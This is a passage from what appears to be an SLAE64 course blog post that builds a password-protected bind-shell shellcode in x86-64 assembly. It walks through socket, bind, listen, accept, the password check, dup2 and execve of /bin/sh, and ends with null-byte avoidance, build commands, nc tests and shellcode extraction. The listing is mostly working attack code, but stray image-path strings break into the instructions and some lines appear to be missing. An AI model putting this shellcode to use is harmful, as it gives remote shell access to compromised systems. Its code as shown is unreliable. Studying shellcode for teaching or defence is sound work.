Of course, it isn’t that simple if we want to keep zeros out of the shellcode, but as long as we avoid direct mov instructions and stick to increments and adds, we can easily generate the required values.

; Create socket
    xor rax, rax
    mov rdx, rax
    inc rax
    mov rsi, rax        ; SOCK_STREAM (1)
    inc rax
    mov rdi, rax        ; AF_INET (2)
    add rax, 39         ; syscall 41
    cmp rax, -1         ; exit on error
    jle _exitpush rax            ; store socket id on stack

If the return value is -1 or less, something bad has happened and we call the _exit handler. Otherwise, RAX contains the newly created socket id which we push onto the stack to create the first of our fixed variable entries.

Next we bind our server socket. Again the bind syscall matches the bind() function:

ID /RAX Name Arg1 / RDI Arg2 / RSI Arg3 / RDX
49 sys_bind int fd struct sockaddr *myaddr int addrlen

Now we begin to reference the stack variables using an offset from RBP. The socket ID and a reference to our populated sockaddr structure can dropped directly into the relevant registers. We need a static value of 16 representing the length of sockaddr for the third argument. As we’ll be needing a reference to this later, we’ll push it onto the stack as the second fixed variable once we have generated the value.

; Bind Socket
    xor rax, rax
    add rax, 49
    mov rdi, [rbp-24]   ; socket id
    lea rsi, [rbp-16]   ; sockaddr_in struct
    xor rdx, rdxadd rdx, 16         ; sockaddr_in size
    push rdx            ; create size val ref on stack
    cmp rax, -1
    jle _exit

Once again, a value of -1 or below indicates an error.

Placing the socket in listen mode is much the same as the previous syscalls. The method name and arguments are the same as the C code:

ID / RAX Name Arg1 / RDI Arg2 / RSI
50 sys_listen int fd int backlog

RDI still contains the socket ID from the previous syscall, so it is just a case of setting the method ID and limiting the number of connections to two.

; Listen
    xor rax, rax
    add rax, 2
    mov rsi, rax
    add rax, 48
    cmp rax, -1
    jle _exit

Accepting connections

The accept syscall matches the function in the C code:ID / RAX Name Arg1 / RDI Arg2 / RSI Arg3 / RDX
43 sys_accept int fd struct sockaddr *upeer_sockaddr int *upeer_addrlen

We’re reusing the sockaddr buffer on the stack. I expected this buffer to need zeroing out, but tests showed that the code worked just fine with a dirty buffer, so I didn’t waste instructions clearing the area.

As previously mentioned, the third argument is a pointer to the sockaddr length value. The accept syscall may adjust this value, so we cannot simply pass a constant value or reference a register. Doing so will cause accept to fail when an incoming connection is acquired.

    xor rax, rax
    add rax, 43
    mov rdi, [rbp-24]   ; socket id
    lea rsi, [rbp-16]   ; sockaddr_in struct
    lea rdx, [rbp-32]   ; pointer to sockaddr_in size
    cmp rax, -1
    jle _exit

    push rax        ; Store client socket id

Note that the _accept name here is a label rather than a comment. This is the point we will loop back to if the connecting user does not pass the passphrase check.

As we may be returning here from further down the code, we cannot depend on the state of the registers and we must populate all the values.The code blocks at this point, waiting for connections. The error check is carried out as normal, but if we do have a valid socket ID, it is pushed onto the stack for safe keeping.

Validating the user

Assuming that we have a valid socket, we need to prompt the remote user for a password. In the C code, the send() function was used for this. However, I could not find a matching syscall in the kernel documentation. The nearest syscall was sys_sendto which required extra parameters:

ID / RAX Name Arg1 / RDI Arg2 / RSI Arg3 / RDX Arg4 / R10 Arg5 / R8 Arg6 / R9
44 sys_sendto int fd void *buff size_t len unsigned flags struct sockaddr *addr int addr_len

Digging a little further, I found the following snippet in net/socket.c:

SYSCALL_DEFINE4(send, int, fd, void __user *, buff, size_t,len,
        unsigned, flags)
    return sys_sendto(fd, buff, len, flags, NULL, 0);

This tells us that we can simply ignore the extra parameters and we know from the C code that the flag argument can also be zero.

As discussed earlier, we need to use this call in a few places during execution, so sendto is wrapped in the utility stubs at the start of the listing. The calling code simply needs to set the string address and length registers.

; authenticate incoming connection
    mov rsi, r15        ; string address
    xor rdx, rdx
    add rdx, 24         ; string length
    call _prompt

To get the input from the remote user in the C code, we used read(). Again, Icould not find a matching read syscall, but recvfrom seemed to have a similar setup to the sendto method:

ID / RAX Name Arg1 / RDI Arg2 / RSI Arg3 / RDX Arg4 / R10 Arg5 / R8 Arg6 / R9
45 sys_recvfrom int fd void *ubuf size_t size unsigned flags struct sockaddr *addr int *addr_len

A quick test showed that the same pattern of zeroing out the later parameters could be used:

    mov rdi, [rbp-40]   ; socket id
    lea rsi, [rbp-16]   ; buffer address
    xor rax, rax        ; Zero out registers
    push rax
    push rax
    pop rdx
    pop r10
    mov r8, rax
    mov r9, raxadd rdx, 8          ; buffer length
    add rax, 45         ; recvfrom

Interestingly, I found that the push and pop instructions on the RAX, RBX, RCX, RSI and RDI registers are single byte instructions, while a mov is three. So push/pop saves one byte per move when working with repeating values. Unfortunately, the numbered registers (R8, R9, etc) require two bytes for each push and pop so a mov is more efficient.

The recvfrom call blocks until something is received from the remote user.

In the C code, we used strcmp() to compare the pre-set password with the user’s response. There is no nice easy syscall equivalent of strcmp, but there is a mechanism for comparing memory locations byte by byte using the cmpsb instruction.

First we set the RSI and RDI registers up with the start address of the two strings. RCX is populated with the length of the target string.

; compare strings
    lea rsi, [rbp-16]   ; input buffer address
    lea rdi, [r15+24]   ; password string address
    xor rcx, rcx
    add rcx, 8          ; length

cmpsb compares the bytes at RSI and RDI, clearing the zero flag if there is a mismatch. The command handily increments the string pointers too, so we simply need to check for failed matches and loop until we have processed RCX bytes.

    cmpsb               ; compare bytes
    jne _badpw          ; exit if no match
    loop _cmploop       ; next char

If the two strings match, we’ll fall through the the ‘good passphrase’ section, which sends a welcome message to the remote user and jumps to the shell setup code.

; good passphrase (fallthrough)
    lea rsi, [r15+32]   ; welcome stringxor rdx, rdx
    add rdx, 8          ; welcome length
    call _prompt
    jmp _create_shell   ; set up the shell

However, if the strings don’t match, we’re jumped to the _badpw location. This code sends a fail message to the remote user, pops the socket ID off the stack and uses the shutdown syscall to terminate theconnection.

ID / RAX Name Arg1 / RDI Arg2 / RSI
48 sys_shutdown int fd int how

The ‘how’ parameter is set to SHUT_RDWR which kills all read and write operations to the socket.

The last step is to loop back to the _accept label to listen for another incoming connection and repeat the validation until it is done correctly.

    lea rsi, [r15+40]   ; fail message
    xor rdx, rdx
    add rdx, 6          ; fail length
    call _prompt
    xor rax, rax        ; zero out regs
    push rax
    pop rsi
    add rax, 48         ; shutdown client socket
    pop rdi             ; last use of client sock id
    add rsi, 2          ; SHUT_RDWR
    jmp _accept         ; jump back to await another connection

Setting up the shellAssuming that we have validated the user, the remainder of the code is concerned with setting up the shell. First we duplicate the I/O streams of the host and assign them to the client socket using dup2:

ID / RAX Name Arg1 / RDI Arg2 / RSI
33 sys_dup2 unsigned int oldfd unsigned int newfd


; Duplicate I/O descriptors
    xor rax, rax
    add rax, 33         ; dup2
    mov r8, rax         ; preserve syscall id for subsequent calls
    mov rdi, [rbp-40]   ; socket id
    xor rsi, rsi        ; STDIN

    mov rax, r8         ; dup2
    inc rsi             ; STDOUT

    mov rax, r8         ; dup2
    inc rsi             ; STDERR

All that remains is to invoke the new shell. As in the C code, we use execve for this:

ID / RAX Name Arg1 / RDI Arg2 / RSI Arg3 / RDX
59 sys_execve const char *filename const char *const argv[] const char *const envp[]

The ‘/bin/sh’ string is 7 bytes, adding a NULL terminator brings us to a nice round 8 bytes. We can represent this string as a hex number, but we need to avoid introducing a zero into our shellcode. My workaround is to create the string with a leading ‘X’. Right shifting the register removes the ‘X’ and introduces the required NULL.

We are re-using buffer 1 on the stack to hold our string. We build the arguments array in reverse by pushing a NULL onto the stack followed by the address of buffer 1.

The stack will look like this:


Once the stack is arranged, RDIwill hold the RBP-16 address, RSI will hold the RSP address.

If we’ve done everything right, calling the execve syscall spawns the shell and we’re done. The code blocks while the remote user interacts with the local shell. If the remote user exits or closes the connection, the shell closes and the code continues, calling the _exit stub to terminate the program.

    xor rax, rax
    push rax
    pop rdx
    mov rbx, 0x68732f6e69622f78 ; build 'X/bin/sh'
    shr rbx, 8          ; shift the ¨X¨ and append a NULL
    mov [rbp-16], rbx   ; copy ¨/bin/sh¨ string to buffer
    lea rdi, [rbp-16]   ; get the /bin/sh string
    push rax            ; build args array, by pushing NULL
    push rdi            ; then push buffer 1 address
    mov rsi, rsp        ; arg array address
    add rax, 59         ; execvecall _exit

Testing the code out

The complete final file is hosted at GitHub shell_bind.nasm We can build this .nasm file with the following command line:

nasm -felf64 bind_shell.nasm -o bind_shell.o && ld bind_shell.o -o bind_shell

Running the resulting binary, we see in the application blocking while it awaits connection:

codehead@ubuntu:~/SLAE64/src$ ./bind_shell

From another terminal, we can connect to the program, test out the password handling and try a few shell commands:

codehead@ubuntu:~$ nc 4444
Speak friend and enter: BadPasswordBiggerThanBuffer
codehead@ubuntu:~$ nc 4444
Speak friend and enter: short
codehead@ubuntu:~$ nc 4444
Speak friend and enter: password

Extracting the shellcode

When it came to extracting the shellcode from the binary, I ran into a problem. Vivek’s recommendation of the objdump command line from Commandline Fu didn’t work properly for me. It took a while to track down the cause. The problem manifested itself as segmentation faults due to misaligned jumps. However, I finally realised that the problem was in the data strings within my code. The code is quite verbose and as a result it is well over the short jump limit of 127 bytes.This meant that the normal practise of locating the string data at the end was not an option. To get around this, I had to locate the string data in the early part of the listing. When objdump decodes the binary, it tries to interpret the unlabelled text data as code and this can result in some confusion over the boundaries between code blocks. As a result, some bytes are shown twice.


These repeated bytes are included in the output generated by the command line extractor. As a result, the code contains unexpected padding and the absolute jump over the string data does not land in the correct location.

To resolve this, I wrote a bash script to extract shellcode based on hexdump. This script is hosted on GitHub: The script uses objdump to determine the offset and length of the .text section within the file, then uses hexdump to extract and format the raw hex without trying to decode or interpret it, avoiding any confusion or duplicated bytes.

Taking the time to select instructions carefully paid off, there are no troublesome NULL bytes in the resulting shellcode string.


